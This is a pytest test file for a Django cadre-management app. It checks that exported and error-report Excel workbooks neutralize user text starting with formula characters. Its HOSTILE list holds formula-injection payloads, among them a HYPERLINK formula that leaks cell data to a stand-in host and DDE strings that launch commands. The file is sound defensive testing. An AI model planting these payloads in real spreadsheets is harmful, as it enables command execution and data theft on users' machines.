"""Every workbook the system writes carries no formula from user text (issue 14):
names of cadres, units and partners, addresses and notes that begin with `=`, `+`,
`-`, `@`, a tab or a carriage return reach Excel as text."""

import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from grids import workbooks
from grids.models import Pairing, PairingService, PartnerKind, PartnerUnit, UnitKind
from grids.services import orgunit_create
from members.imports.models import ImportJob
from services.services import visit_log
from tests.factories import make_cadre
from tests.members.roster_files import write_roster

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def formula_cells(data: bytes) -> list[tuple[str, str, object]]:
    """Cells Excel would evaluate: stored formulas, or text that begins like one."""
    found = []
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f" or (
                    isinstance(value, str) and value.startswith(workbooks.FORMULA_STARTS)
                ):
                    found.append((sheet.title, cell.coordinate, value))
    return found


def body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def test_the_helper_neutralizes_each_formula_start():
    for text in HOSTILE:
        assert workbooks.neutralize(text) == "'" + text
    assert workbooks.neutralize("张三") == "张三" and workbooks.neutralize(-5) == -5
    book = workbooks.new_workbook()
    book.active["A1"] = "=1+1"  # a writer that forgot the helper
    buffer = io.BytesIO()
    workbooks.save(book, buffer)
    assert formula_cells(buffer.getvalue()) == []


@pytest.fixture
def hostile(cast):
    """Hostile text in every place a workbook takes user text from."""
    unit = orgunit_create(
        name=HOSTILE[0], kind=UnitKind.COMMUNITY, parent=cast.tree["grid_A"]
    )
    branch = orgunit_create(name=HOSTILE[1], kind=UnitKind.BRANCH, parent=unit)
    partner = PartnerUnit.objects.create(name=HOSTILE[2], kind=PartnerKind.INSTITUTIONAL)
    pairing = Pairing.objects.create(
        partner=partner, unit=unit, start_on=datetime.date(2025, 1, 1)
    )
    PairingService.objects.create(pairing=pairing, kind="medical", frequency="monthly")
    cadres = [
        make_cadre(branch=branch, residence_unit=unit, name=text, address=text,
                   health_status=text, requests=text, original_work_unit=text,
                   on_roster_since=datetime.date(2025, 1, 1))  # in this year's coverage
        for text in HOSTILE[3:]
    ]  # fmt: skip
    visit_log(cadres=cadres[:1], kinds=["medical"], partner=partner,
              visited_on=timezone.localdate(), notes=HOSTILE[0])  # fmt: skip
    return {"unit": unit, "partner": partner, "cadres": cadres}


def test_every_download_is_free_of_formulas(client, cast, hostile):
    client.force_login(cast.officer)
    year = timezone.localdate().year
    downloads = {
        "roster export": reverse("members:cadre_export"),
        "roster template": reverse("members:roster_template"),
        "coverage": reverse("coverage")
        + f"?unit={hostile['unit'].parent_id}&period=year&year={year}&format=xlsx",
        "partner review": reverse("partners:list") + f"?year={year}&format=xlsx",
        "demo roster": reverse("imports:demo_roster"),
        "demo roster corrected": reverse("imports:demo_roster") + "?corrected=1",
    }
    for kind in ("roster", "tree", "partners"):
        downloads[f"{kind} template"] = reverse("imports:template", args=[kind])
    for label, url in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, label
        assert response["Content-Type"].startswith("application/vnd.openxml"), label
        data = body(response)
        assert formula_cells(data) == [], label
    coverage = load_workbook(io.BytesIO(body(client.get(downloads["coverage"]))))
    names = [c.value for c in coverage["未覆盖名单"]["A"]]
    assert "'" + HOSTILE[3] in names  # the text is kept, only neutralized
    review = load_workbook(io.BytesIO(body(client.get(downloads["partner review"]))))
    assert review.worksheets[0]["A2"].value == "'" + HOSTILE[2]


@pytest.mark.parametrize("kind", ["roster", "tree", "partners"])
def test_every_error_file_is_free_of_formulas(client, cast, tmp_path, kind):
    header = {
        "roster": ["姓名", "身份证号", "所属支部", "家庭住址"],
        "tree": ["名称", "类型", "上级"],
        "partners": ["单位名称", "类型", "结对网格/社区/村"],
    }[kind]
    rows = [[text, text, text, text][: len(header)] for text in HOSTILE]
    path = write_roster(tmp_path / "bad.xlsx", header, rows)
    book = load_workbook(path)
    for row in book.active.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"  # typed text, as an office saves it
    book.save(path)
    client.force_login(cast.officer)
    client.post(
        reverse("imports:home"),
        {"kind": kind, "mode": "create",
         "file": SimpleUploadedFile("bad.xlsx", path.read_bytes())},
    )  # fmt: skip
    job = ImportJob.objects.get()
    assert job.error_file, job.message
    data = body(client.get(reverse("imports:error_file", args=[job.pk])))
    assert formula_cells(data) == []
    assert len(load_workbook(io.BytesIO(data)).active["A"]) >= len(HOSTILE)


def test_the_commands_write_no_formulas(cast, hostile, tmp_path):
    out = tmp_path / "export.xlsx"
    call_command("export_roster", str(out), "--user", "officer")
    assert formula_cells(out.read_bytes()) == []
    bad = write_roster(tmp_path / "in.xlsx", ["姓名", "身份证号", "所属支部"],
                       [[HOSTILE[0], "123", HOSTILE[1]]])  # fmt: skip
    errors = tmp_path / "errors.xlsx"
    with pytest.raises(SystemExit):
        call_command("import_roster", str(bad), "--user", "officer",
                     "--error-file", str(errors))  # fmt: skip
    assert formula_cells(errors.read_bytes()) == []
